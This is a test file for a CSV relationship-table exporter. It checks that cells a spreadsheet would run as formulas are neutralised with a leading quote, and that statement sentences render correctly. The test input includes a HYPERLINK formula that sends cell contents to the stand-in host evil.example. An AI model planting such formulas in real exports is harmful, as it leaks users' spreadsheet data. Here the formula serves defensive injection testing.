/**
 * The spreadsheet export (`table`): text that a spreadsheet would run as a formula — a cell
 * starting with =, +, -, @, tab or CR — is neutralised with a leading single quote (OWASP's CSV
 * injection advice); the neo4j-admin CSV keeps such text exactly, since it must round-trip.
 */
import { describe, expect, it } from 'vitest';
import { sourceFromBatch } from '../../server/export/export-graph.js';
import { writeRelationshipTable } from '../../server/export/relationship-table-writer.js';
import { exportFixture } from '../helpers/export-fixture.js';

const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';

async function text(chunks: AsyncIterable<string>): Promise<string> {
  let out = '';
  for await (const chunk of chunks) out += chunk;
  return out;
}

/** RFC 4180 rows back to fields, enough for this output (quoted fields may hold commas and quotes). */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
  };
  for (let i = 0; i < csv.length; i++) {
    const char = csv[i];
    if (quoted && char === '"' && csv[i + 1] === '"') {
      field += '"';
      i++;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (quoted) {
      field += char;
    } else if (char === ',') {
      endField();
    } else if (char === '\n') {
      endField();
      rows.push(row);
      row = [];
    } else {
      field += char;
    }
  }
  return rows;
}

describe('the relationship table export', () => {
  it('neutralises cells a spreadsheet would run as formulas', async () => {
    const graph = exportFixture();
    const actor = graph.nodes.find((node) => node.id === 'actor:tricky')!;
    actor.properties.name = FORMULA;
    const edge = graph.edges.find((candidate) => candidate.source === 'actor:tricky')!;
    edge.properties.rule = '+1+2';
    edge.properties.evidence = JSON.stringify([{ documentId: '@SUM(A1)', sentence: '-2+3', start: 0, end: 4 }]);
    const rows = parseCsv((await text(writeRelationshipTable(sourceFromBatch(graph)))).replace(/^\uFEFF/, ''));
    const header = rows[0];
    const row = rows.find((candidate) => candidate[header.indexOf('source_id')] === 'actor:tricky')!;
    expect(row[header.indexOf('source_name')]).toBe(`'${FORMULA}`);
    expect(row[header.indexOf('rule')]).toBe("'+1+2");
    expect(row[header.indexOf('evidence')]).toBe("'-2+3");
    expect(row[header.indexOf('documents')]).toBe("'@SUM(A1)");
    for (const cells of rows) for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('reads the statement at either end of a row as a sentence: who said it, about whom, when, where', async () => {
    const rows = parseCsv(
      (await text(writeRelationshipTable(sourceFromBatch(exportFixture())))).replace(/^\uFEFF/, ''),
    );
    const header = rows[0];
    const sentenceOf = (id: string) =>
      rows.find((row) => row[header.indexOf('id')] === id)![header.indexOf('statement')];
    const sentence =
      'Ada Lovelace — said — “Engines will compose music” — about Ruritania — 2024-05-01 (article date) — Engines & <Music>';
    expect(sentenceOf('SAID:actor:ada-lovelace->stmt:engines')).toBe(sentence);
    expect(sentenceOf('ABOUT:stmt:engines->actor:ruritania')).toBe(sentence);
    expect(sentenceOf('REPORTED_IN:stmt:engines->doc:1')).toBe(sentence);
    expect(sentenceOf('MET:actor:ada-lovelace->actor:charles-babbage')).toBe('');
  });
});
